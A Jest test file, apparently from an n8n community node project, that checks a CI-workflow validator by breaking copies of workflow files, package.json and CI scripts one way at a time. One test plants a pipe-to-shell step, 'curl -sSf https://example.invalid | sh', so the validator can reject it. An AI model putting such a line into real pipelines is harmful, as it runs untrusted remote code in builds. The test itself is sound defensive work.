/* eslint-disable @n8n/community-nodes/no-dangerous-functions, @n8n/community-nodes/no-restricted-globals, @n8n/community-nodes/no-restricted-imports -- test and sandbox code runs in plain Node, never inside n8n; the n8n Cloud rules are for nodes/ and credentials/ */
import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

/**
 * scripts/check-workflows.mjs on copies of the project's workflow files, package.json and CI
 * scripts, each broken in one way: the check must name the file and the step and fail.
 */
const repo = join(__dirname, '..', '..');
const checker = join(repo, 'scripts', 'check-workflows.mjs');
let work: string;

beforeEach(() => {
	work = mkdtempSync(join(tmpdir(), 'kommo-check-workflows-'));
	cpSync(join(repo, '.github'), join(work, '.github'), { recursive: true });
	cpSync(join(repo, '.ci'), join(work, '.ci'), { recursive: true });
	mkdirSync(join(work, 'scripts'));
	cpSync(join(repo, 'scripts', 'test-all.sh'), join(work, 'scripts', 'test-all.sh'));
	cpSync(join(repo, 'package.json'), join(work, 'package.json'));
});
afterEach(() => rmSync(work, { recursive: true, force: true }));

function check(): { status: number | null; output: string } {
	const run = spawnSync(process.execPath, [checker, '--root', work], { encoding: 'utf8' });
	return { status: run.status, output: `${run.stdout}${run.stderr}` };
}

/** Replaces the one occurrence of `from` in a copied file. */
function edit(file: string, from: string, to: string): void {
	const path = join(work, file);
	const text = readFileSync(path, 'utf8');
	expect(text.split(from)).toHaveLength(2);
	writeFileSync(path, text.replace(from, to));
}

function editPackageScripts(change: (scripts: Record<string, string>) => void): void {
	const path = join(work, 'package.json');
	const pkg = JSON.parse(readFileSync(path, 'utf8')) as { scripts: Record<string, string> };
	change(pkg.scripts);
	writeFileSync(path, JSON.stringify(pkg, null, '\t'));
}

test('the project as committed passes', () => {
	const { status, output } = check();
	expect(output).toContain('check:workflows: passed');
	expect(output).toMatch(/ci\.yml: \d+ run steps checked/);
	expect(output).toMatch(/publish\.yml: \d+ run steps checked/);
	expect(status).toBe(0);
});

test('a workflow that breaks the schema fails, naming the file and the path', () => {
	edit(
		'.github/workflows/ci.yml',
		'runs-on: ubuntu-latest\n    timeout-minutes: 30',
		'runs-onn: ubuntu-latest\n    timeout-minutes: 30',
	);
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toContain('.github/workflows/ci.yml: schema:');
	expect(output).toContain('/jobs/checks');
});

test('a tag trigger written as a string instead of a list fails the schema', () => {
	edit('.github/workflows/publish.yml', "tags:\n      - 'v*.*.*'", 'tags: {}');
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toContain('.github/workflows/publish.yml: schema:');
});

test('a step running a script that .ci/run does not run fails, naming job and step', () => {
	edit('.github/workflows/ci.yml', 'run: npm run scan', 'run: npm run bench');
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toMatch(/ci\.yml: job "checks", step \d+: \.ci\/run does not run `npm run bench`/);
});

test('a step running a script missing from package.json fails', () => {
	edit('.github/workflows/ci.yml', 'run: npm run scan', 'run: npm run scan:all');
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toContain('package.json has no script "scan:all"');
});

test('a step that is not an npm command, or is several lines, fails', () => {
	edit(
		'.github/workflows/ci.yml',
		'run: npm run scan',
		'run: curl -sSf https://example.invalid | sh',
	);
	edit(
		'.github/workflows/ci.yml',
		'run: npm run pack:check',
		'run: |\n          npm run pack:check\n          npm run scan',
	);
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toContain('`curl -sSf https://example.invalid | sh` is not `npm ci`');
	expect(output).toContain('a run step is one command');
});

test('dropping a step from .ci/run makes the same workflow step fail', () => {
	edit('.ci/run', 'npm run lint:n8n\n', '');
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toContain('.ci/run does not run `npm run lint:n8n`');
});

test('the fast tests count as run by .ci/run only through npm test → scripts/test-all.sh', () => {
	edit('scripts/test-all.sh', 'npm run test:unit --', 'npx jest --selectProjects unit routing');
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toMatch(
		/publish\.yml: job "publish", step \d+: \.ci\/run does not run `npm run test:unit`/,
	);
});

test('publishing without id-token: write, without provenance or without prepublishOnly fails', () => {
	edit('.github/workflows/publish.yml', 'id-token: write', 'id-token: none');
	edit('.github/workflows/publish.yml', 'run: npm publish --provenance', 'run: npm publish');
	editPackageScripts((scripts) => delete scripts.prepublishOnly);
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toContain('needs `permissions: id-token: write`');
	expect(output).toContain('a publish step is `npm publish --provenance');
	expect(output).toContain('package.json has no prepublishOnly');
});

test('a prepublishOnly that runs a script .ci/run never runs fails', () => {
	editPackageScripts((scripts) => {
		scripts.prepublishOnly = 'npm run build && npm run bench';
	});
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toContain(
		'prepublishOnly runs `npm run bench`: .ci/run does not run `npm run bench`',
	);
});

test('a dependabot file without the github-actions ecosystem fails', () => {
	edit('.github/dependabot.yml', 'package-ecosystem: github-actions', 'package-ecosystem: docker');
	const { status, output } = check();
	expect(status).toBe(1);
	expect(output).toContain('.github/dependabot.yml: no update entry for github-actions');
});
